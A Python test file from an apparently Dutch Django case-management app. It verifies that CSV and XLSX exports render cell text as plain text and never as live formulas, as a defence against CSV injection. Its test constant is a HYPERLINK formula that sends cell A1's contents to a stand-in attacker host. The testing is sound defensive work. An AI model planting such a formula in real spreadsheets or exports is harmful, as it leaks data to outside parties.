"""Issue 17, finding 6: text in an export is text, never a live formula (OWASP CSV injection)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from reports import exports
from tests.factories import CaseFactory, teamleider
from tests.test_reports_outputs import make_table
from woonoverlast.cases.models import District
from woonoverlast.common.spreadsheets import csv_cell, xlsx_cell

HOSTILE = '=HYPERLINK("http://aanval.example/?x="&A1,"Klik hier")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+31 79 123", "'+31 79 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Centrum", "Centrum"),
        ("Rokkeveen-Oost", "Rokkeveen-Oost"),
        ("", ""),
        (None, ""),
        (42, 42),
        (-3, -3),
    ],
)
def test_csv_cells(value, written):
    assert csv_cell(value) == written


def test_xlsx_text_is_a_string_cell_whatever_it_starts_with():
    book = Workbook()
    xlsx_cell(book.active, 1, 1, HOSTILE)
    xlsx_cell(book.active, 2, 1, 7)
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == (HOSTILE, "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == (7, "n")


def test_tabel51_csv_and_xlsx_write_a_hostile_wijk_as_text():
    table = make_table({HOSTILE: (1, 2, 3, 4, 5, 6), "Centrum": (0, 0, 0, 0, 0, 0)})
    rows = list(csv.reader(io.StringIO(exports.csv_text(table))))
    assert rows[1][0] == "'" + HOSTILE
    assert rows[2] == ["Centrum", "0", "0", "0", "0", "0", "0", "0"]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([table]))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.django_db
def test_the_case_list_export_writes_a_hostile_wijk_as_text(client):
    wijk = District.objects.create(name=HOSTILE, display_order=999)
    CaseFactory(district=wijk, registered_on=datetime.date(2024, 1, 2))
    client.force_login(teamleider())
    content = client.get(reverse("cases:export"), {"wijk": wijk.pk}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert rows[1][1] == "'" + HOSTILE
